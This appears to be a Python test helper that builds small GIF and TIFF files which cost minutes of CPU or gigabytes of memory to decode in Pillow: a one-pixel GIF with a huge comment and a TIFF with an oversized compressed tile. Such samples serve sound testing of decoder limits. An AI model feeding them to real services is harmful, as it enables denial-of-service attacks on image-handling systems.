"""Small pictures that cost a lot: to decode them takes minutes, or gigabytes."""

import struct
import zlib
from io import BytesIO

from PIL import Image


def gif_comment(mebibytes: int = 24) -> bytes:
    """A GIF of one pixel with a long comment, which Pillow puts together in quadratic time."""
    buffer = BytesIO()
    Image.new("P", (1, 1)).save(buffer, "GIF")
    gif = buffer.getvalue()
    colors = 3 * (2 << (gif[10] & 7)) if gif[10] & 0x80 else 0
    comment = b"\x21\xfe" + (b"\xff" + b"A" * 255) * (mebibytes << 12) + b"\0"
    return gif[: 13 + colors] + comment + gif[13 + colors :]


def tiff_tile(side: int) -> bytes:
    """A TIFF of 16x16 pixels in one compressed tile of side x side."""
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(bytes(3 * side)) for _ in range(side)) + packer.flush()
    entries = [
        (256, 4, 1, 16),
        (257, 4, 1, 16),
        (258, 3, 3, 8 + 2 + 12 * 10 + 4),
        (259, 3, 1, 8),
        (262, 3, 1, 2),
        (277, 3, 1, 3),
        (322, 4, 1, side),
        (323, 4, 1, side),
        (324, 4, 1, 8 + 2 + 12 * 10 + 4 + 6),
        (325, 4, 1, len(pixels)),
    ]
    directory = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<I", 8) + directory + bytes(4) + struct.pack("<3H", 8, 8, 8) + pixels
